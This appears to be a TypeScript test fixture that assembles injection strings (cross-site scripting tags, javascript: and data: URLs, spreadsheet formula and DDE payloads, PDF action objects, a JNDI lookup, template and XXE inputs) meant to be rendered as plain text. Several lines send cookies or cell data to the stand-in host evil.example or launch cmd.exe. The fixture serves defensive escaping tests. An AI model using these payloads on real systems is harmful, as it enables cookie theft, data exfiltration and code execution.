/** Scripts and URLs that run code if they are interpreted as more than text. */
const scripts = [
  'alert(1)',
  'alert(document.cookie)',
  'fetch("//evil.example/"+document.cookie)',
  'app.alert("x")',
  "this.exportDataObject({cName:'a'})",
];

const tags = [
  '<script>§</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=§>',
  '<svg/onload=§>',
  '<svg><script>§</script></svg>',
  '<iframe src="javascript:§"></iframe>',
  '<body onload=§>',
  '<a href="javascript:§">x</a>',
  '<math><mi xlink:href="javascript:§">x</mi></math>',
  '"><script>§</script>',
  "'--></style></script><script>§</script>",
  '<!--<img src="--><img src=x onerror=§//">',
  '<details open ontoggle=§>',
  '<link rel=import href="data:text/html,<script>§</script>">',
  '<meta http-equiv="refresh" content="0;url=javascript:§">',
  '&lt;script&gt;§&lt;/script&gt;',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">§</x:script>',
  ']]><script>§</script>',
];

const addresses = [
  'javascript:§',
  'JaVaScRiPt:§',
  ' javascript:§',
  'java\tscript:§',
  'javascript://evil.example/%0a§',
  'vbscript:msgbox(1)',
  'data:text/html,<script>§</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'file:///etc/passwd',
  'file://evil.example/share',
  'view-source:javascript:§',
  'ms-msdt:/id PCWDiagnostic',
  'blob:https://evil.example/x',
];

const linked = ['[x](§)', '![x](§)', '[x]: §', '<§>', '<a href="§">x</a>', '[x|§]', '!§!', '"=HYPERLINK(""§"")"'];

const formulas = [
  '1+1',
  'SUM(A1:A9)',
  'HYPERLINK("http://evil.example/?"&A1,"x")',
  'IMPORTXML("http://evil.example","//a")',
  'WEBSERVICE("http://evil.example/"&A1)',
  "cmd|'/C calc'!A0",
  'MSEXCEL|\'\\..\\..\\Windows\\System32\\cmd.exe /c calc\'!""',
];
const formulaStarts = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '＝', '＋', '－', '＠', "'=", ' ='];

/** Texts that would end a PDF string and begin another object. */
const ofPdf = [
  ') /AA << /O << /S /JavaScript /JS (app.alert(1)) >> >>',
  ') >> /OpenAction << /S /Launch /F (cmd.exe) >>\nendstream\nendobj',
  '\\) >> endobj 1 0 obj << /S /JavaScript /JS (x) >> endobj',
  '> >> /S /URI /URI (javascript:alert(1))',
  'EMC Q ET\n/Artifact BMC',
  'endstream endobj xref trailer startxref 0 %%EOF',
  '<</Type/Action/S/SubmitForm/F(http://evil.example)>>',
  '<< /Type /Filespec /EF << /F 5 0 R >> /EmbeddedFile >>',
  '%PDF-1.7\n1 0 obj\n<</Pages 1 0 R /OpenAction 2 0 R>>',
];

const others = [
  '${jndi:ldap://evil.example/x}',
  '{{constructor.constructor("alert(1)")()}}',
  '<%= 7*7 %>',
  '#{7*7}',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
  '</t></is></c><c><f>1+1</f></c>',
  '","evil":true,"x":"',
  '\\u003cscript\\u003e',
  '"\r\n=1+1,"',
  'a";=1+1;"',
  '\u202Egnp.exe\u2066',
  '\u0001\u0008\u001B[31m',
  '\u2028alert(1)\u2029',
  '{noformat}{html}<script>alert(1)</script>{html}',
  '[~admin] {macro:x} !http://evil.example/x.png!',
  'x'.repeat(300),
];

const filled = (patterns: readonly string[], words: readonly string[]): string[] =>
  patterns.flatMap((pattern, at) => {
    const word = words[at % words.length] ?? '';
    return pattern.includes('§') ? [pattern.replaceAll('§', () => word)] : [pattern];
  });

const live = filled(addresses, scripts);

/** Texts that must be shown and written as plain text everywhere. */
export const hostileTexts: readonly string[] = [
  ...filled(tags, scripts),
  ...live,
  ...linked.flatMap((pattern) => live.slice(0, 9).map((address) => pattern.replaceAll('§', () => address))),
  ...formulaStarts.flatMap((start) => formulas.map((formula) => `${start}${formula}`)),
  ...ofPdf,
  ...others,
];
